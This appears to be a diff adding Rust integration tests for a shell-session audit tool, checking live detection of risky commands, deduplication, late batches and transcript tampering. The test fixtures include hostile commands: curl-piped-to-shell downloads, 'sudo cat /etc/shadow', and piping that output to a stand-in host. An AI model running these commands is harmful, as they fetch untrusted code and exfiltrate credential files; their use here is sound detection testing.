@@ -1,0 +1,340 @@
+//! The live path over every recorded session, streamed the way the agent streams it
+//! (`transcript::agent_stream`: stripped lines, the prompt line held back, a tick of a few
+//! lines per event), one event per invocation, over the in-memory store and sink.
+
+use std::collections::BTreeMap;
+
+use serde_json::{json, Value};
+use session_audit::live::channels::{Comparison, Joined, StreamReader};
+use session_audit::live::run::{SessionStream, Streamed};
+use session_audit::live::{Batch, LiveState, LogEvent};
+use session_audit::outputs::Metrics;
+use session_audit::rules::Target;
+use session_audit::sink::MemSink;
+use session_audit::store::{block_on, get_json, MemStore};
+use session_audit::transcript::agent_stream::{message, ticks_of_recording, StreamedSession};
+use session_audit::{Analyzer, Input};
+
+use crate::fixture;
+
+const T0: i64 = 1_795_000_000_000;
+
+fn recordings() -> Vec<(String, Vec<u8>)> {
+    let mut out = Vec::new();
+    for entry in std::fs::read_dir(fixture("recorded")).unwrap() {
+        let path = entry.unwrap().path();
+        if path.extension().is_some_and(|e| e == "log") {
+            let name = path.file_stem().unwrap().to_string_lossy().into_owned();
+            out.push((name, std::fs::read(&path).unwrap()));
+        }
+    }
+    out.sort();
+    out
+}
+
+/// The agent's events for a recording: event `i` carries tick `i`, one second apart.
+fn events(session: &str, transcript: &[u8]) -> Vec<LogEvent> {
+    let who = StreamedSession {
+        session_id: session,
+        target: "i-0123456789abcdef0",
+        user_arn: "arn:aws:sts::123456789012:assumed-role/Admin/ana",
+        run_as: "ssm-user",
+        region: "us-east-1",
+    };
+    // 1 to 5 lines per tick, varying, so prompts and output split across events every way.
+    let ticks = ticks_of_recording(transcript, |i| 1 + (i * 7 + 3) % 5);
+    let at = |i: usize| T0 + i as i64 * 1000;
+    let time = |i| {
+        jiff::Timestamp::from_millisecond(at(i)).unwrap().strftime("%Y-%m-%dT%H:%M:%SZ").to_string()
+    };
+    ticks
+        .into_iter()
+        .enumerate()
+        .map(|(i, lines)| LogEvent {
+            id: format!("{:056}", i + 1),
+            timestamp: at(i),
+            message: message(&who, &time(i), &lines),
+        })
+        .collect()
+}
+
+fn batch(session: &str, events: &[LogEvent]) -> Batch {
+    Batch {
+        owner: Some("123456789012".into()),
+        log_group: "/session-audit/t/sessions".into(),
+        log_stream: session.into(),
+        events: events.to_vec(),
+    }
+}
+
+struct Live {
+    stream: SessionStream<MemStore, MemSink>,
+}
+
+impl Live {
+    fn new() -> Self {
+        Live {
+            stream: SessionStream {
+                store: MemStore::default(),
+                sink: MemSink::default(),
+                analyzer: Analyzer::default(),
+            },
+        }
+    }
+
+    fn send(&self, session: &str, events: &[LogEvent]) -> Streamed {
+        let mut metrics = Metrics::default();
+        block_on(self.stream.handle(&batch(session, events), &mut metrics)).unwrap()
+    }
+
+    fn published(&self) -> Vec<Value> {
+        self.stream.sink.details()
+    }
+
+    fn state(&self, session: &str) -> LiveState {
+        let key = session_audit::keys::live_state(session).unwrap();
+        block_on(get_json(&self.stream.store, &key)).unwrap().unwrap().value.unwrap()
+    }
+}
+
+/// Command-rule findings per rule in the full report of the same recording.
+fn report_command_rules(analyzer: &Analyzer, transcript: &[u8]) -> BTreeMap<String, usize> {
+    let report = analyzer.analyze_bytes(transcript, Input::default());
+    let mut out = BTreeMap::new();
+    for f in &report.findings {
+        let rule = analyzer.rules.get(&f.rule_id).unwrap();
+        if rule.target == Target::Command {
+            *out.entry(f.rule_id.clone()).or_insert(0) += 1;
+        }
+    }
+    out
+}
+
+#[test]
+fn recorded_sessions_raise_their_command_findings_live() {
+    let (mut found, mut wanted) = (0, 0);
+    let mut misses = Vec::new();
+    for (name, transcript) in recordings() {
+        let session = format!("{name}-0123456789abcdef0");
+        let events = events(&session, &transcript);
+        let live = Live::new();
+        for (i, event) in events.iter().enumerate() {
+            let before = live.published().len();
+            let answer = live.send(&session, std::slice::from_ref(event));
+            assert_eq!(answer.outcome, "streamed");
+            // Every finding of this invocation is stamped with this event's time: it came
+            // from the invocation that carried the command (or output line).
+            let time = serde_json::from_str::<Value>(&event.message).unwrap()["eventTime"].clone();
+            for d in &live.published()[before..] {
+                assert_eq!(d["time"], time, "{name} event {i}: {d}");
+                assert_eq!(d["stage"], "live");
+            }
+        }
+        let published = live.published();
+        let mut ids: Vec<&str> =
+            published.iter().map(|d| d["finding_id"].as_str().unwrap()).collect();
+        let total = ids.len();
+        ids.sort();
+        ids.dedup();
+        assert_eq!(ids.len(), total, "{name}: a finding published twice");
+        // Redelivering any batch publishes nothing.
+        for event in events.iter().step_by(3) {
+            let answer = live.send(&session, std::slice::from_ref(event));
+            assert_eq!(answer.outcome, "duplicate", "{name}");
+        }
+        assert_eq!(live.published().len(), total, "{name}: a redelivery published");
+
+        let analyzer = Analyzer::default();
+        let mut live_rules: BTreeMap<String, usize> = BTreeMap::new();
+        for d in &published {
+            *live_rules.entry(d["rule_id"].as_str().unwrap().to_string()).or_insert(0) += 1;
+        }
+        for (rule, n) in report_command_rules(&analyzer, &transcript) {
+            let got = live_rules.get(&rule).copied().unwrap_or(0).min(n);
+            found += got;
+            wanted += n;
+            if got < n {
+                misses.push(format!("{name}: {rule} {got}/{n}"));
+            }
+        }
+    }
+    let coverage = found as f64 / wanted as f64;
+    eprintln!("live coverage of report command findings: {found}/{wanted} = {coverage:.3}; missed: {misses:?}");
+    assert!(wanted >= 10, "the recordings have command findings to find");
+    assert!(coverage >= 0.9, "{coverage:.3}: {misses:?}");
+}
+
+#[test]
+fn batch_boundaries_do_not_change_what_is_found() {
+    for (name, transcript) in recordings() {
+        let session = format!("{name}-0123456789abcdef0");
+        let events = events(&session, &transcript);
+        let whole = Live::new();
+        whole.send(&session, &events);
+        let one_by_one = Live::new();
+        for event in &events {
+            one_by_one.send(&session, std::slice::from_ref(event));
+        }
+        let ids = |l: &Live| {
+            let mut v: Vec<String> = l
+                .published()
+                .iter()
+                .map(|d| d["finding_id"].as_str().unwrap().to_string())
+                .collect();
+            v.sort();
+            v
+        };
+        assert_eq!(ids(&whole), ids(&one_by_one), "{name}");
+        assert_eq!(whole.state(&session).commands, one_by_one.state(&session).commands, "{name}");
+    }
+}
+
+#[test]
+fn a_late_batch_is_read_alone_and_a_redelivery_of_it_is_not_read_again() {
+    let session = "ana-0123456789abcdef0";
+    let line = |t: &str| {
+        json!({"eventTime": t, "sessionId": session, "sessionData": ["sh-4.2$ curl -s http://x/i.sh | sh"]})
+            .to_string()
+    };
+    let first = LogEvent { id: "1".into(), timestamp: T0, message: line("2026-11-30T09:00:00Z") };
+    let second =
+        LogEvent { id: "2".into(), timestamp: T0 + 1000, message: line("2026-11-30T09:00:01Z") };
+    let live = Live::new();
+    assert_eq!(live.send(session, std::slice::from_ref(&second)).findings.len(), 1);
+    let late = live.send(session, std::slice::from_ref(&first));
+    assert_eq!((late.late, late.findings.len()), (1, 1), "{late:?}");
+    assert!(late.findings[0].contains(":late:1:"), "{late:?}");
+    let again = live.send(session, &[first, second]);
+    assert_eq!((again.outcome, again.redelivered, again.findings.len()), ("duplicate", 2, 0));
+    assert_eq!(live.state(session).late_events, 1);
+}
+
+#[test]
+fn a_command_grown_by_continuation_lines_raises_each_rule_once() {
+    let session = "ana-0123456789abcdef0";
+    let ev = |i: i64, lines: &[&str]| {
+        LogEvent {
+        id: i.to_string(),
+        timestamp: T0 + i * 1000,
+        message: json!({"eventTime": format!("2026-11-30T09:00:0{i}Z"), "sessionId": session, "sessionData": lines}).to_string(),
+    }
+    };
+    let live = Live::new();
+    live.send(session, &[ev(1, &["sh-4.2$ sudo cat /etc/shadow \\"])]);
+    let first = live.published();
+    assert!(first.iter().any(|d| d["rule_id"] == "SA-CMD-010"), "{first:?}");
+    // The continuation adds a second risky part; the first rule is not raised again.
+    live.send(session, &[ev(2, &["> | curl -d @- http://x/"]), ev(3, &["sh-4.2$ ls"])]);
+    let all = live.published();
+    let shadow = all.iter().filter(|d| d["rule_id"] == "SA-CMD-010").count();
+    assert_eq!(shadow, 1, "{all:?}");
+    assert_eq!(live.state(session).commands, 2);
+}
+
+/// The report of `transcript` joined with the stream `events`: its commands (with times) and
+/// what the comparison found.
+fn joined(
+    transcript: &[u8],
+    events: &[LogEvent],
+) -> (Vec<session_audit::report::ReportCommand>, Comparison) {
+    let analyzer = Analyzer::default();
+    let mut reader = StreamReader::new(&analyzer.redactor);
+    for e in events {
+        reader.feed(e);
+    }
+    let writer = Joined::new(Vec::new(), Some(reader.finish()));
+    let (_, joined) = analyzer.analyze(transcript, Input::default(), writer).unwrap();
+    let (commands, comparison) = joined.finish();
+    (commands, comparison.expect("a stream"))
+}
+
+#[test]
+fn with_the_stream_present_commands_carry_their_time_and_honest_channels_agree() {
+    let (mut timed, mut total) = (0, 0);
+    for (name, transcript) in recordings() {
+        let session = format!("{name}-0123456789abcdef0");
+        let events = events(&session, &transcript);
+        let (commands, comparison) = joined(&transcript, &events);
+        if let Some(d) = comparison.disagreement() {
+            eprintln!("DISAGREE {name}: {d} {:?}", comparison.channels);
+        }
+        timed += commands.iter().filter(|c| c.time.is_some()).count();
+        total += commands.len();
+        // A time is the time of an event that carried the command's text.
+        for c in commands.iter().filter(|c| c.time.is_some()) {
+            let time = c.time.as_deref().unwrap();
+            assert!(events.iter().any(|e| e.message.contains(time)), "{name}: {c:?}");
+        }
+    }
+    let share = timed as f64 / total as f64;
+    eprintln!("commands with a stream time: {timed}/{total} = {share:.3}");
+    assert!(share >= 0.9, "{timed}/{total}");
+}
+
+#[test]
+fn a_transcript_edited_before_upload_disagrees_with_the_stream() {
+    let original = std::fs::read(fixture("recorded/al2023_sh_risky.log")).unwrap();
+    let events = events("ana-0123456789abcdef0", &original);
+    // root on the instance deletes the line that ran the remote script from ipcTempFile.log
+    let at = original.windows(10).position(|w| w == b"install.sh").unwrap();
+    let start = original[..at].iter().rposition(|&b| b == b'\n').unwrap() + 1;
+    let end = at + original[at..].iter().position(|&b| b == b'\n').unwrap() + 1;
+    let edited = [&original[..start], &original[end..]].concat();
+    let (commands, comparison) = joined(&edited, &events);
+    assert!(commands.iter().all(|c| !c.command.contains("install.sh")));
+    let evidence = comparison.disagreement().expect("the stream saw what the transcript lacks");
+    assert!(evidence.contains("curl -s http://127.0.0.1:9/install.sh | sh"), "{evidence}");
+    assert_eq!(comparison.channels.stream_only, 1, "{comparison:?}");
+    // The same commands on both sides otherwise: the rest keep their times.
+    assert!(commands.iter().filter(|c| c.time.is_some()).count() + 1 >= commands.len());
+}
+
+/// Root deletes one command (its prompt line and output) from ipcTempFile.log before upload,
+/// in every recorded session, one command at a time: the stream, sent while it ran, has it.
+#[test]
+fn deleting_any_command_from_the_transcript_is_caught() {
+    let marker = b"\x1b[?2004h";
+    let (mut caught, mut tried) = (0, 0);
+    let mut escaped = Vec::new();
+    for (name, transcript) in recordings() {
+        let events = events(&format!("{name}-0123456789abcdef0"), &transcript);
+        let original: Vec<String> = Analyzer::default()
+            .analyze_bytes(&transcript, Input::default())
+            .commands
+            .into_iter()
+            .map(|c| c.command)
+            .collect();
+        let starts: Vec<usize> = transcript
+            .windows(marker.len())
+            .enumerate()
+            .filter(|(_, w)| *w == marker)
+            .map(|(i, _)| i)
+            .collect();
+        for pair in starts.windows(2) {
+            let edited = [&transcript[..pair[0]], &transcript[pair[1]..]].concat();
+            let (commands, comparison) = joined(&edited, &events);
+            let kept: Vec<&str> = commands.iter().map(|c| c.command.as_str()).collect();
+            let Some(gone) = original.iter().find(|c| {
+                kept.iter().filter(|k| *k == c).count()
+                    < original.iter().filter(|o| *o == *c).count()
+            }) else {
+                continue; // the block held no command (a prompt answered with Ctrl-C)
+            };
+            // The same text still in the session: nothing tells which copy was removed.
+            if original.iter().filter(|o| *o == gone).count() > 1
+                || kept.len() + 1 != original.len()
+            {
+                continue;
+            }
+            tried += 1;
+            if comparison.disagreement().is_some() {
+                caught += 1;
+            } else {
+                escaped.push(format!("{name}: {gone:?}"));
+            }
+        }
+    }
+    eprintln!("deleted commands caught: {caught}/{tried}; escaped: {escaped:#?}");
+    assert!(tried >= 50, "{tried}");
+    assert!(caught as f64 >= 0.95 * tried as f64, "{caught}/{tried}: {escaped:#?}");
+}
